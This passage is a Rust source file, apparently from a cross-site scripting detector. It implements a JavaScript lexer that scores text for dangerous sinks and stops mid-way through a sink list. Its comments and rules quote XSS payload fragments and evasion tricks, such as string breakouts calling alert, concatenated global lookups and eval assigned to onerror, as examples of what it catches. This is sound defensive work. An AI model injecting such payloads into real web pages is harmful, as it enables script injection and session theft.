//! A small JavaScript lexer that answers one question about a piece of
//! text: read as JavaScript from a given state, how far does it stay
//! syntactically plausible, and does that plausible part use a sink
//! (call `alert`, read `document.cookie`, assign `location`...)?
//!
//! It is not a parser. It tracks whether an operand or an operator is
//! expected next, which is enough to tell code (`';alert(1)//`) from prose
//! (`it's a test`): prose puts two words side by side, which JavaScript
//! never does on one line. It stops at the first such error and reports
//! the evidence seen before it.
//!
//! Caps: at most [`MAX_TOKENS`] tokens per scan, [`MAX_DEPTH`] open
//! brackets, template literals nested [`MAX_NEST`] deep. Every loop
//! advances by at least one byte, so a scan is linear in its input.

use std::cmp::Ordering;

/// Tokens read per scan before giving up (the evidence so far stands).
pub const MAX_TOKENS: u32 = 4096;
/// Brackets open at once.
const MAX_DEPTH: usize = 48;
/// Template literal `${}` nesting.
const MAX_NEST: u8 = 4;

/// How strongly a piece of text reads as executable JavaScript.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Default)]
pub enum Strength {
    /// No code (a lone operand, prose, or nothing).
    #[default]
    None,
    /// An expression with operators or statements, no call.
    Code,
    /// A call or an assignment of something other than a sink.
    Call,
    /// A sink that ordinary code uses too: a network call (`fetch`,
    /// `import()`, `sendBeacon`), a timer given a function, `atob`, an
    /// assignment to `location` or `innerHTML`. Strong evidence after a
    /// string breakout or in a handler, not in a bare code snippet.
    Weak,
    /// A sink: a call of `alert`, `prompt`, `confirm`, `eval`, `Function`,
    /// `document.write`, the `constructor` of a function, a timer given a
    /// string; a read of `document.cookie` or `document.domain`; a
    /// computed call on a global object (`top['al'+'ert'](1)`).
    Sink,
}

/// The state the scan starts in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Start {
    /// At the start of a statement (a handler value, a `javascript:` URL).
    Statement,
    /// Just after an operand: the text follows a string literal it closed.
    AfterOperand,
}

/// What a scan found.
#[derive(Debug, Clone, Copy, Default)]
pub struct JsView {
    pub strength: Strength,
    /// Where the strongest evidence lies, relative to the scanned text.
    pub start: usize,
    pub end: usize,
    /// Length of the error-free prefix (the whole text when no error).
    pub clean: usize,
    /// Tokens in the error-free prefix.
    pub tokens: u32,
    /// The first token read was an identifier or keyword.
    pub first_word: bool,
    /// In nested mode: the offset of the unmatched `}` that ended the scan.
    pub closed_at: Option<usize>,
    /// A sink function referenced but not called here (`${alert}`): the
    /// code around may call it.
    pub sink_ref: Option<(usize, usize, Strength)>,
}

impl JsView {
    /// The scan stopped at a syntax error before the end of the text.
    pub fn errored(&self, len: usize) -> bool {
        self.clean < len && self.closed_at.is_none()
    }
}

/// Scans `src` from `start`. In `nested` mode an unmatched `}` ends the
/// scan (the end of a `${...}` or `{{...}}` expression).
pub fn scan(src: &[u8], start: Start, nested: bool) -> JsView {
    scan_depth(src, start, nested, 0)
}

fn scan_depth(src: &[u8], start: Start, nested: bool, nest: u8) -> JsView {
    let mut s = Scanner {
        src,
        i: 0,
        expect: match start {
            Start::Statement => Expect::Operand,
            Start::AfterOperand => Expect::Operator,
        },
        nl: false,
        comments: 0,
        prev: Tok::default(),
        prev2: Tok::default(),
        stack: [0; MAX_DEPTH],
        depth: 0,
        view: JsView::default(),
        pending_call: None,
        pending_assign: None,
        sink_open: None,
        sink_ref: None,
        prev_sink: None,
        template_ref: None,
        assign_handler: false,
        depth_popped_flags: 0,
        special_ref: None,
        has_call: false,
        has_assign: false,
        has_op: false,
        control_next: false,
        bracket_obj: Global::No,
        bracket_str: None,
        bracket_tokens: 0,
        prev_global: Global::No,
        nest,
    };
    s.run(nested);
    s.finish()
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    /// An operand (start of an expression or statement).
    Operand,
    /// An operator (after an operand).
    Operator,
    /// Either (after a `}`: end of a block or of an object literal).
    Any,
    /// A property name (after `.` or `?.`).
    Member,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
enum Kind {
    #[default]
    None,
    Ident,
    Keyword,
    Literal,
    Str,
    Template,
    Dot,
    Open,
    Close,
    Punct,
}

#[derive(Debug, Clone, Copy, Default)]
struct Tok {
    kind: Kind,
    start: usize,
    end: usize,
    /// Comments skipped before this token (all along the scan).
    comments: u32,
}

/// Objects whose computed members are globals (`top['al'+'ert']`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Global {
    No,
    Window,
    Document,
}

/// A sink named by the previous tokens.
#[derive(Debug, Clone, Copy)]
struct Callee {
    start: usize,
    end: usize,
    level: Strength,
    /// A timer: a string argument makes it a strong sink.
    timer: bool,
}

impl Callee {
    fn new(start: usize, end: usize, level: Strength) -> Callee {
        Callee {
            start,
            end,
            level,
            timer: false,
        }
    }

    fn span(&self) -> (usize, usize) {
        (self.start, self.end)
    }
}

// Bracket stack entry flags.
const PAREN: u8 = 1;
const BRACKET: u8 = 2;
const BRACE: u8 = 3;
const KIND_MASK: u8 = 3;
const CONTROL: u8 = 4;
const SINK_CALL: u8 = 8;
const CALL: u8 = 16;
/// With SINK_CALL: a strong sink.
const STRONG: u8 = 32;

struct Scanner<'a> {
    src: &'a [u8],
    i: usize,
    expect: Expect,
    /// A line break since the previous token (automatic semicolons).
    nl: bool,
    /// Comments skipped so far.
    comments: u32,
    prev: Tok,
    prev2: Tok,
    stack: [u8; MAX_DEPTH],
    depth: usize,
    view: JsView,
    /// The previous token names a sink: a call now is a sink call.
    pending_call: Option<Callee>,
    /// The previous token is a sink target: `=` now assigns a sink.
    pending_assign: Option<(usize, usize)>,
    /// The callee of the innermost sink call opened.
    sink_open: Option<Callee>,
    /// A sink function referenced as a value (reported to the code
    /// around a `${...}` substitution).
    sink_ref: Option<Callee>,
    /// The previous token is a sink function named as a value.
    prev_sink: Option<Callee>,
    /// A sink referenced in a `${...}` of the template being read.
    template_ref: Option<Callee>,
    /// The `=` just read assigns an event handler (`window.onerror=`).
    assign_handler: bool,
    /// Flags of the bracket the last closing token closed (CALL when it
    /// closed none).
    depth_popped_flags: u8,
    /// A sink property read by itself (`document.cookie`).
    special_ref: Option<(usize, usize, Strength)>,
    has_call: bool,
    has_assign: bool,
    has_op: bool,
    /// The next `(` is a control-statement head (`if (...)`).
    control_next: bool,
    /// The object of the innermost computed member access.
    bracket_obj: Global,
    /// The single string inside that access, if it is just one string.
    bracket_str: Option<(usize, usize)>,
    bracket_tokens: u32,
    /// The previous token is a global object: `self`, `(document)`,
    /// `self["$"]`.
    prev_global: Global,
    nest: u8,
}

impl Scanner<'_> {
    fn run(&mut self, nested: bool) {
        let src = self.src;
        let mut tokens = 0u32;
        loop {
            self.skip_space();
            if self.i >= src.len() {
                self.view.clean = src.len();
                return;
            }
            tokens += 1;
            if tokens > MAX_TOKENS {
                self.view.clean = self.i;
                return;
            }
            let at = self.i;
            let ok = self.token(nested);
            match ok {
                Step::Ok => {
                    self.view.tokens += 1;
                    if self.view.tokens == 1 {
                        self.view.first_word =
                            matches!(self.prev.kind, Kind::Ident | Kind::Keyword);
                    }
                }
                Step::Error => {
                    self.view.clean = at;
                    return;
                }
                Step::Closed => {
                    self.view.clean = at;
                    self.view.closed_at = Some(at);
                    return;
                }
            }
            debug_assert!(self.i > at);
        }
    }

    fn finish(mut self) -> JsView {
        // A sink call still open at the end of the text counts: what the
        // page appends may complete it.
        if self.view.clean == self.src.len() {
            let open = self.stack[..self.depth]
                .iter()
                .filter(|&&f| f & SINK_CALL != 0)
                .map(|&f| {
                    if f & STRONG != 0 {
                        Strength::Sink
                    } else {
                        Strength::Weak
                    }
                })
                .max();
            if let Some(level) = open {
                let span = self
                    .sink_open
                    .map_or((0, self.src.len()), |c| (c.start, self.src.len()));
                self.raise(level, span);
            }
        }
        if let Some((s, e, level)) = self.special_ref {
            self.raise(level, (s, e));
        }
        if let Some(c) = self.sink_ref {
            self.view.sink_ref = Some((c.start, c.end, c.level));
        }
        if self.has_op && self.view.tokens >= 2 {
            self.raise(Strength::Code, (0, self.view.clean));
        }
        self.view
    }

    fn raise(&mut self, s: Strength, span: (usize, usize)) {
        if s > self.view.strength {
            self.view.strength = s;
            self.view.start = span.0;
            self.view.end = span.1;
        }
    }

    fn skip_space(&mut self) {
        let src = self.src;
        while self.i < src.len() {
            let c = src[self.i];
            match c {
                b' ' | b'\t' | 0x0b | 0x0c | 0 => self.i += 1,
                b'\n' | b'\r' => {
                    self.nl = true;
                    self.i += 1;
                    // `-->` at the start of a line is a comment.
                    let mut j = self.i;
                    while j < src.len() && matches!(src[j], b' ' | b'\t') {
                        j += 1;
                    }
                    if src[j..].starts_with(b"-->") {
                        self.i = line_end(src, j);
                    }
                }
                b'/' if src.get(self.i + 1) == Some(&b'/') => {
                    self.comments += 1;
                    self.i = line_end(src, self.i);
                }
                b'/' if src.get(self.i + 1) == Some(&b'*') => {
                    self.comments += 1;
                    let body = self.i + 2;
                    match find2(&src[body..], b'*', b'/') {
                        Some(k) => {
                            if src[body..body + k].contains(&b'\n') {
                                self.nl = true;
                            }
                            self.i = body + k + 2;
                        }
                        None => self.i = src.len(),
                    }
                }
                b'<' if src[self.i..].starts_with(b"<!--") => self.i = line_end(src, self.i),
                0xc2 if src.get(self.i + 1) == Some(&0xa0) => self.i += 2,
                0xef if src[self.i..].starts_with(&[0xef, 0xbb, 0xbf]) => self.i += 3,
                0xe1..=0xe3 => match unicode_space(&src[self.i..]) {
                    Some((n, line)) => {
                        self.nl |= line;
                        self.i += n;
                    }
                    None => return,
                },
                _ => return,
            }
        }
    }

    /// Reads one token at `self.i` (not a space).
    fn token(&mut self, nested: bool) -> Step {
        let src = self.src;
        let c = src[self.i];
        let start = self.i;
        if is_ident_start(c) || (c == b'\\' && src.get(self.i + 1) == Some(&b'u')) {
            self.i = ident_end(src, self.i);
            return self.word(start, self.i);
        }
        if c >= 0x80 {
            // Non-ASCII that is not a space: general punctuation (smart
            // quotes, dashes) is not JavaScript; letters are identifiers.
            if c == 0xe2 && matches!(src.get(self.i + 1), Some(0x80 | 0x81)) {
                return Step::Error;
            }
            self.i = ident_end(src, self.i);
            return self.word(start, self.i);
        }
        if c.is_ascii_digit() || (c == b'.' && src.get(self.i + 1).is_some_and(u8::is_ascii_digit))
        {
            while self.i < src.len()
                && (src[self.i].is_ascii_alphanumeric() || matches!(src[self.i], b'.' | b'_'))
            {
                self.i += 1;
            }
            return self.operand(Kind::Literal, start);
        }
        match c {
            b'"' | b'\'' => {
                let (end, closed) = string_end(src, self.i);
                if !closed && end < src.len() {
                    return Step::Error; // a line break inside a string
                }
                self.i = end;
                self.operand(Kind::Str, start)
            }
            b'`' => {
                let tagged = self.expect == Expect::Operator && !self.nl;
                let callee = self.pending_call;
                // `x.call`...``, `Reflect.apply.call`...``: a function
                // invoked through `call`/`apply` with a template, a way to
                // call without parentheses that only payloads use.
                let through_call = tagged
                    && self.prev.kind == Kind::Ident
                    && self.prev2.kind == Kind::Dot
                    && matches!(
                        src.get(self.prev.start..self.prev.end),
                        Some(b"call" | b"apply")
                    );
                let tag_start = self.prev.start;
                self.template_ref = None;
                if !tagged {
                    if let s @ Step::Error = self.operand(Kind::Template, start) {
                        return s;
                    }
                }
                self.i += 1;
                if !self.template() {
                    return Step::Error;
                }
                if tagged {
                    // alert`1`: a call.
                    self.has_call = true;
                    self.raise(Strength::Call, (start, self.i));
                    if let Some(c) = callee {
                        let level = if c.timer { Strength::Sink } else { c.level };
                        self.raise(level, (c.start, self.i));
                    }
                    // [].sort.call`${alert}1`: the sink is an argument.
                    if let Some(c) = self.template_ref {
                        self.raise(c.level, (c.start, self.i));
                    }
                    if through_call {
                        self.raise(Strength::Sink, (tag_start, self.i));
                    }
                    self.set_prev(Kind::Template, start);
                    self.expect = Expect::Operator;
                }
                Step::Ok
            }
            b'/' if self.expect == Expect::Operand => {
                if !self.regex() {
                    return Step::Error;
                }
                self.operand_done(Kind::Literal, start)
            }
            b'(' => self.open_paren(start),
            b')' => self.close(PAREN, start),
            b'[' => {
                self.i += 1;
                let member = self.expect == Expect::Operator && !self.nl;
                if member {
                    self.bracket_obj = self.prev_global;
                    self.bracket_str = None;
                    self.bracket_tokens = 0;
                } else if self.expect == Expect::Member {
                    return Step::Error;
                } else {
                    self.bracket_obj = Global::No;
                }
                if !self.push(BRACKET) {
                    return Step::Error;
                }
                self.set_prev(Kind::Open, start);
                self.bracket_tokens = 0;
                self.expect = Expect::Operand;
                Step::Ok
            }
            b']' => self.close(BRACKET, start),
            b'{' => {
                self.i += 1;
                if self.expect == Expect::Member {
                    return Step::Error;
                }
                if !self.push(BRACE) {
                    return Step::Error;
                }
                self.set_prev(Kind::Open, start);
                self.expect = Expect::Operand;
                Step::Ok
            }
            b'}' => {
                if nested && self.depth == 0 {
                    return Step::Closed;
                }
                self.close(BRACE, start)
            }
            b';' | b',' => {
                if self.expect == Expect::Member {
                    return Step::Error;
                }
                self.i += 1;
                self.set_prev(Kind::Punct, start);
                self.expect = Expect::Operand;
                Step::Ok
            }
            b'.' => {
                if src[self.i..].starts_with(b"...") {
                    self.i += 3;
                    self.set_prev(Kind::Punct, start);
                    self.expect = Expect::Operand;
                    return Step::Ok;
                }
                if !matches!(self.expect, Expect::Operator | Expect::Any) {
                    return Step::Error;
                }
                self.i += 1;
                self.set_prev(Kind::Dot, start);
                self.expect = Expect::Member;
                Step::Ok
            }
            _ => self.operator(start),
        }
    }

    /// Records the token just read. Clears the pending sink callee and
    /// target unless the token is a `.` (which continues a member chain);
    /// callers that set them do so after this.
    fn set_prev(&mut self, kind: Kind, start: usize) {
        if kind != Kind::Dot {
            self.pending_call = None;
            self.pending_assign = None;
        }
        let closes_group = kind == Kind::Close
            && self.src.get(start) == Some(&b')')
            && self.prev2.kind == Kind::Open
            && self.src.get(self.prev2.start) == Some(&b'(');
        self.prev_global = match kind {
            Kind::Ident | Kind::Keyword => global(&self.src[start..self.i]),
            // `(document)`: a group holding just a global.
            _ if closes_group => self.prev_global,
            _ => Global::No,
        };
        self.prev_sink = None;
        self.prev2 = self.prev;
        self.prev = Tok {
            kind,
            start,
            end: self.i,
            comments: self.comments,
        };
        self.bracket_tokens += 1;
        self.nl = false;
    }

    /// An operand token ending at `self.i`: checks it may stand here.
    fn operand(&mut self, kind: Kind, start: usize) -> Step {
        match self.expect {
            Expect::Operator if !self.nl => return Step::Error,
            Expect::Member => return Step::Error,
            _ => {}
        }
        self.operand_done(kind, start)
    }

    fn operand_done(&mut self, kind: Kind, start: usize) -> Step {
        if kind == Kind::Str && self.bracket_tokens == 0 {
            self.bracket_str = Some((start + 1, self.i.saturating_sub(1).max(start + 1)));
        }
        self.set_prev(kind, start);
        self.expect = Expect::Operator;
        Step::Ok
    }

    fn word(&mut self, start: usize, end: usize) -> Step {
        let w = &self.src[start..end];
        if self.expect == Expect::Member {
            return self.property(start, end);
        }
        match keyword(w) {
            Some(Kw::Binary) => {
                if self.expect != Expect::Operator && self.expect != Expect::Any {
                    return Step::Error;
                }
                self.has_op = true;
                self.set_prev(Kind::Keyword, start);
                self.expect = Expect::Operand;
                Step::Ok
            }
            Some(Kw::Of) if self.expect == Expect::Operator && !self.nl => {
                self.set_prev(Kind::Keyword, start);
                self.expect = Expect::Operand;
                Step::Ok
            }
            Some(Kw::Prefix | Kw::Statement | Kw::Control | Kw::Import) => {
                if self.expect == Expect::Operator && !self.nl {
                    return Step::Error;
                }
                let kw = keyword(w);
                if kw == Some(Kw::Control) {
                    self.control_next = true;
                }
                if kw == Some(Kw::Import) && next_non_space(&self.src[end..]) == Some(b'(') {
                    self.set_prev(Kind::Ident, start);
                    self.pending_call = Some(Callee::new(start, end, Strength::Weak));
                    self.expect = Expect::Operator;
                    return Step::Ok;
                }
                if w != b"void" && w != b"return" {
                    self.has_op = true;
                }
                self.set_prev(Kind::Keyword, start);
                self.expect = Expect::Operand;
                Step::Ok
            }
            Some(Kw::Literal) | Some(Kw::Of) | None => {
                if let s @ Step::Error = self.operand(Kind::Ident, start) {
                    return s;
                }
                self.identifier(start, end);
                Step::Ok
            }
        }
    }

    /// Evidence carried by an identifier in operand position.
    fn identifier(&mut self, start: usize, end: usize) {
        let w = &self.src[start..end];
        if let Some(c) = function_sink(w, start, end) {
            self.pending_call = Some(c);
            self.sink_value(c);
        } else if w == b"location" {
            self.pending_assign = Some((start, end));
        } else if w == b"write" || w == b"writeln" {
            // Handler scope: a bare write() is document.write().
            self.pending_call = Some(Callee::new(start, end, Strength::Sink));
        }
    }

    /// A sink function named as a value (the token just read): counts
    /// when passed to a call (`[1].some(confirm)`), assigned to an event
    /// handler (`window.onerror=eval`); remembered for a parenthesised
    /// callee (`(alert)(1)`) and for the code around a `${}`.
    fn sink_value(&mut self, c: Callee) {
        let before = self.prev2;
        let at = |b: u8| self.src.get(before.start) == Some(&b) && before.end == before.start + 1;
        let in_call =
            self.depth > 0 && self.stack[self.depth - 1] & (KIND_MASK | CALL) == (PAREN | CALL);
        if in_call && (at(b'(') || at(b',')) {
            self.raise(c.level, c.span());
        }
        if at(b'=') && self.assign_handler {
            self.raise(c.level, c.span());
        }
        if self.sink_ref.is_none_or(|r| r.level < c.level) {
            self.sink_ref = Some(c);
        }
        self.prev_sink = Some(c);
    }

    /// A property name after `.` or `?.`.
    fn property(&mut self, start: usize, end: usize) -> Step {
        let src = self.src;
        let w = &src[start..end];
        let obj: &[u8] = if matches!(self.prev2.kind, Kind::Ident | Kind::Keyword) {
            &src[self.prev2.start..self.prev2.end]
        } else {
            &[]
        };
        let prior_call = self.pending_call;
        let obj_global = global(obj);
        let obj_comments = self.prev2.comments;
        let span = (
            if obj.is_empty() {
                start
            } else {
                self.prev2.start
            },
            end,
        );
        self.set_prev(Kind::Ident, start);
        // `window.top`: still a global; `x.top` is not.
        self.prev_global = if obj_global == Global::Window {
            global(w)
        } else {
            Global::No
        };
        self.expect = Expect::Operator;
        if obj == b"document" && lookup(DOCUMENT_READS, w).is_some() {
            // Plain `document.cookie` is also what prose about it names;
            // with comments inside (`document/**/.cookie`) it is evasion.
            let level = if self.comments > obj_comments {
                Strength::Sink
            } else {
                Strength::Weak
            };
            if self.special_ref.is_none_or(|r| r.2 < level) {
                self.special_ref = Some((span.0, span.1, level));
            }
        }
        if let Some(mut c) = function_sink(w, span.0, span.1) {
            // `window.alert` is the function; `x.alert` may be any method
            // of that name (`dialog.confirm(...)`), or the window under
            // another name (`$event.view.alert(1)`): a weak sink.
            if obj_global != Global::Window {
                c.level = c.level.min(Strength::Weak);
            }
            self.pending_call = Some(c);
            if obj_global == Global::Window {
                self.sink_value(c);
            }
        } else if let Some(level) = method_sink(w) {
            // constructor, fromCharCode; write only on document.
            let doc_only = w == b"write" || w == b"writeln";
            if !doc_only || obj == b"document" {
                self.pending_call = Some(Callee::new(span.0, span.1, level));
            }
        } else if matches!(w, b"call" | b"apply" | b"bind") {
            if let Some(mut p) = prior_call {
                p.end = end;
                self.pending_call = Some(p);
            }
        }
        if lookup(SINK_TARGETS, w).is_some() {
            // innerHTML=, srcdoc=, document.cookie=, location.href=
            let loc_part = matches!(
                w,
                b"href" | b"search" | b"hash" | b"pathname" | b"src" | b"cookie"
            );
            if !loc_part || obj == b"location" || obj == b"document" {
                self.pending_assign = Some(span);
            }
        }
        if w == b"location" && obj_global != Global::No {
            self.pending_assign = Some(span);
        }
        if w == b"constructor" && obj == b"constructor" {
            self.special_ref = Some((span.0, span.1, Strength::Sink));
        }
        Step::Ok
    }

    fn open_paren(&mut self, start: usize) -> Step {
        self.i += 1;
        let mut flags = PAREN;
        match self.expect {
            Expect::Operator => {
                // A call (`a\n(b)` is one too).
                self.has_call = true;
                flags |= CALL;
                if let Some(c) = self.pending_call {
                    flags |= SINK_CALL;
                    let string_arg = matches!(
                        next_non_space(&self.src[self.i..]),
                        Some(b'"' | b'\'' | b'`')
                    );
                    if c.level == Strength::Sink || (c.timer && string_arg) {
                        flags |= STRONG;
                    }
                    self.sink_open = Some(c);
                }
            }
            Expect::Member => return Step::Error,
            _ => {
                if self.control_next {
                    flags |= CONTROL;
                }
            }
        }
        // `?.(`: the `?.` set Member; a call with optional chaining.
        self.control_next = false;
        if !self.push(flags) {
            return Step::Error;
        }
        if flags & CALL != 0 && self.view.strength < Strength::Call {
            self.raise(Strength::Call, (self.prev.start, self.i));
        }
        self.set_prev(Kind::Open, start);
        self.expect = Expect::Operand;
        Step::Ok
    }

    fn push(&mut self, flags: u8) -> bool {
        if self.depth >= MAX_DEPTH {
            return false;
        }
        self.stack[self.depth] = flags;
        self.depth += 1;
        true
    }

    fn close(&mut self, kind: u8, start: usize) -> Step {
        if self.expect == Expect::Member {
            return Step::Error;
        }
        self.i += 1;
        let mut control = false;
        let computed = kind == BRACKET;
        self.depth_popped_flags = CALL;
        if self.depth > 0 {
            let top = self.stack[self.depth - 1];
            if top & KIND_MASK != kind {
                return Step::Error;
            }
            self.depth -= 1;
            self.depth_popped_flags = top;
            control = top & CONTROL != 0;
            if top & SINK_CALL != 0 {
                let s = self.sink_open.map_or(start, |c| c.start);
                let level = if top & STRONG != 0 {
                    Strength::Sink
                } else {
                    Strength::Weak
                };
                self.raise(level, (s, self.i));
            }
        }
        // A closing bracket with nothing open: the text closes brackets
        // of the code around it (`'));alert(1)//`). Allowed.
        let bracket_single = self.bracket_tokens == 1;
        let last_sink = self.prev_sink;
        let group = kind == PAREN && self.depth_popped_flags & CALL == 0;
        self.set_prev(Kind::Close, start);
        if group {
            // `(alert)(1)`, `(0,alert)(1)`: the group is the sink.
            if let Some(c) = last_sink {
                self.pending_call = Some(c);
                self.prev_sink = Some(c);
            }
        }
        self.expect = match kind {
            BRACE => Expect::Any,
            PAREN if control => Expect::Operand,
            _ => Expect::Operator,
        };
        if computed {
            match self.bracket_obj {
                Global::Window => {
                    // top['al'+'ert'](1), window['location']=...
                    let span = (start, self.i);
                    // `self["\x24"]`: a global looked up by a name
                    // spelled with escapes is hiding what it reaches.
                    if let Some((s, e)) = self.bracket_str {
                        if bracket_single && self.src[s..e].contains(&b'\\') {
                            self.special_ref = Some((s, self.i, Strength::Sink));
                        }
                    }
                    self.prev_global = Global::Window;
                    self.pending_call = Some(Callee::new(span.0, span.1, Strength::Sink));
                    self.pending_assign = Some(span);
                }
                Global::Document => {
                    if let Some((s, e)) = self.bracket_str {
                        if bracket_single && lookup(DOCUMENT_READS, &self.src[s..e]).is_some() {
                            self.special_ref = Some((s, self.i, Strength::Sink));
                        }
                    }
                }
                Global::No => {}
            }
            self.bracket_obj = Global::No;
        }
        Step::Ok
    }

    fn operator(&mut self, start: usize) -> Step {
        let src = self.src;
        let c = src[self.i];
        let n1 = src.get(self.i + 1).copied().unwrap_or(0);
        let n2 = src.get(self.i + 2).copied().unwrap_or(0);
        let binary_ok = matches!(self.expect, Expect::Operator | Expect::Any);
        let unary_ok = matches!(self.expect, Expect::Operand | Expect::Any) || self.nl;
        let (len, class) = match c {
            b'=' => match (n1, n2) {
                (b'=', b'=') => (3, Op::Binary),
                (b'=', _) => (2, Op::Binary),
                (b'>', _) => (2, Op::Arrow),
                _ => (1, Op::Assign),
            },
            b'+' | b'-' => {
                if n1 == c {
                    (2, Op::IncDec)
                } else if n1 == b'=' {
                    (2, Op::Assign)
                } else {
                    (1, Op::PlusMinus)
                }
            }
            b'!' => match (n1, n2) {
                (b'=', b'=') => (3, Op::Binary),
                (b'=', _) => (2, Op::Binary),
                _ => (1, Op::Unary),
            },
            b'~' => (1, Op::Unary),
            b'*' | b'/' | b'%' | b'&' | b'|' | b'^' | b'<' | b'>' => {
                let mut n = 1;
                while n < 4
                    && src.get(self.i + n) == Some(&c)
                    && matches!(c, b'*' | b'&' | b'|' | b'<' | b'>')
                {
                    n += 1;
                }
                if src.get(self.i + n) == Some(&b'=') {
                    // <= >= are comparisons; the others compound assignments.
                    if n == 1 && matches!(c, b'<' | b'>') {
                        (2, Op::Binary)
                    } else {
                        (n + 1, Op::Assign)
                    }
                } else {
                    (n, Op::Binary)
                }
            }
            b'?' => match n1 {
                b'?' if n2 == b'=' => (3, Op::Assign),
                b'?' => (2, Op::Binary),
                b'.' if !n2.is_ascii_digit() => (2, Op::Optional),
                _ => (1, Op::Binary),
            },
            b':' => (1, Op::Colon),
            _ => return Step::Error,
        };
        self.i += len;
        let pending_assign = self.pending_assign.take();
        let pending_call = self.pending_call.take();
        match class {
            Op::Binary => {
                if !binary_ok {
                    return Step::Error;
                }
                self.has_op = true;
                self.expect = Expect::Operand;
            }
            Op::Assign => {
                if !binary_ok {
                    return Step::Error;
                }
                let target = &src[self.prev.start..self.prev.end];
                self.assign_handler = self.prev.kind == Kind::Ident
                    && target.len() > 3
                    && target.starts_with(b"on")
                    && target[2..].iter().all(u8::is_ascii_lowercase);
                self.has_op = true;
                self.has_assign = true;
                if let Some(span) = pending_assign {
                    self.raise(Strength::Weak, (span.0, self.i));
                } else if self.prev.kind == Kind::Ident {
                    self.raise(Strength::Call, (self.prev.start, self.i));
                }
                self.expect = Expect::Operand;
            }
            Op::Arrow => {
                self.has_op = true;
                self.expect = Expect::Operand;
            }
            Op::PlusMinus => {
                if !binary_ok && !unary_ok {
                    return Step::Error;
                }
                self.has_op = true;
                self.expect = Expect::Operand;
            }
            Op::IncDec => {
                self.has_op = true;
                // Postfix after an operand, prefix before one.
                if self.expect != Expect::Operator || self.nl {
                    self.expect = Expect::Operand;
                }
            }
            Op::Unary => {
                if !unary_ok {
                    return Step::Error;
                }
                self.has_op = true;
                self.expect = Expect::Operand;
            }
            Op::Optional => {
                if !binary_ok {
                    return Step::Error;
                }
                if next_non_space(&src[self.i..]) == Some(b'(') {
                    // alert?.(1): keep the callee for the call.
                    self.set_prev(Kind::Punct, start);
                    self.pending_call = pending_call;
                    self.expect = Expect::Operator;
                    return Step::Ok;
                }
                self.set_prev(Kind::Dot, start);
                self.expect = Expect::Member;
                return Step::Ok;
            }
            Op::Colon => {
                self.expect = Expect::Operand;
            }
        }
        self.set_prev(Kind::Punct, start);
        Step::Ok
    }

    /// Reads a template literal body after the opening backtick; scans
    /// `${...}` substitutions as code. False on an error inside one.
    fn template(&mut self) -> bool {
        let src = self.src;
        while self.i < src.len() {
            match src[self.i] {
                b'\\' => self.i += 2,
                b'`' => {
                    self.i += 1;
                    return true;
                }
                b'$' if src.get(self.i + 1) == Some(&b'{') => {
                    let body = self.i + 2;
                    if self.nest >= MAX_NEST {
                        self.i = body;
                        continue;
                    }
                    let v = scan_depth(&src[body..], Start::Statement, true, self.nest + 1);
                    if let Some((s, e, level)) = v.sink_ref {
                        let c = Callee::new(body + s, body + e, level);
                        if self.template_ref.is_none_or(|r| r.level < level) {
                            self.template_ref = Some(c);
                        }
                    }
                    if v.strength > self.view.strength {
                        self.view.strength = v.strength;
                        self.view.start = body + v.start;
                        self.view.end = body + v.end;
                    }
                    match v.closed_at {
                        Some(k) => self.i = body + k + 1,
                        None if v.clean >= src.len() - body => {
                            self.i = src.len();
                            return true;
                        }
                        None => return false,
                    }
                }
                _ => self.i += 1,
            }
        }
        self.i = self.i.min(src.len());
        true
    }

    /// Reads a regular expression literal at `/`. False if a line ends it.
    fn regex(&mut self) -> bool {
        let src = self.src;
        let mut i = self.i + 1;
        let mut class = false;
        while i < src.len() {
            match src[i] {
                b'\\' => i += 1,
                b'[' => class = true,
                b']' => class = false,
                b'/' if !class => {
                    i += 1;
                    while i < src.len() && is_ident_part(src[i]) {
                        i += 1;
                    }
                    self.i = i;
                    return true;
                }
                b'\n' | b'\r' => return false,
                _ => {}
            }
            i += 1;
        }
        self.i = src.len();
        true
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Step {
    Ok,
    Error,
    Closed,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Op {
    Binary,
    Assign,
    Arrow,
    PlusMinus,
    IncDec,
    Unary,
    Optional,
    Colon,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kw {
    /// `in`, `instanceof`: binary operators.
    Binary,
    /// `of`: binary after an operand, else an identifier.
    Of,
    /// Prefix operators: `typeof`, `void`, `new`...
    Prefix,
    /// Statement keywords.
    Statement,
    /// Statements followed by a parenthesised head.
    Control,
    /// `import` (a call when followed by a parenthesis).
    Import,
    /// Literal keywords used as operands: `this`, `true`...
    Literal,
}

fn keyword(w: &[u8]) -> Option<Kw> {
    KEYWORDS
        .binary_search_by(|(k, _)| k.as_bytes().cmp(w))
        .ok()
        .map(|i| KEYWORDS[i].1)
}

/// Sorted.
const KEYWORDS: &[(&str, Kw)] = &[
    ("await", Kw::Prefix),
    ("break", Kw::Statement),
    ("case", Kw::Statement),
    ("catch", Kw::Control),
    ("class", Kw::Statement),
    ("const", Kw::Statement),
    ("continue", Kw::Statement),
    ("debugger", Kw::Statement),
    ("default", Kw::Statement),
    ("delete", Kw::Prefix),
    ("do", Kw::Statement),
    ("else", Kw::Statement),
    ("export", Kw::Statement),
    ("false", Kw::Literal),
    ("finally", Kw::Statement),
    ("for", Kw::Control),
    ("function", Kw::Statement),
    ("if", Kw::Control),
    ("import", Kw::Import),
    ("in", Kw::Binary),
    ("instanceof", Kw::Binary),
    ("let", Kw::Statement),
    ("new", Kw::Prefix),
    ("null", Kw::Literal),
    ("of", Kw::Of),
    ("return", Kw::Statement),
    ("switch", Kw::Control),
    ("this", Kw::Literal),
    ("throw", Kw::Statement),
    ("true", Kw::Literal),
    ("try", Kw::Statement),
    ("typeof", Kw::Prefix),
    ("var", Kw::Statement),
    ("void", Kw::Prefix),
    ("while", Kw::Control),
    ("with", Kw::Control),
    ("yield", Kw::Prefix),
];

/// Functions whose call (or use as a value that is then called) runs
/// attacker code or is an exploit's proof: the dialogs and the string
/// evaluators. Sorted.
const STRONG_FUNCTIONS: &[&str] = &[
    "$eval",
    "Function",
    "alert",
    "confirm",
    "eval",
    "execScript",
    "importScripts",
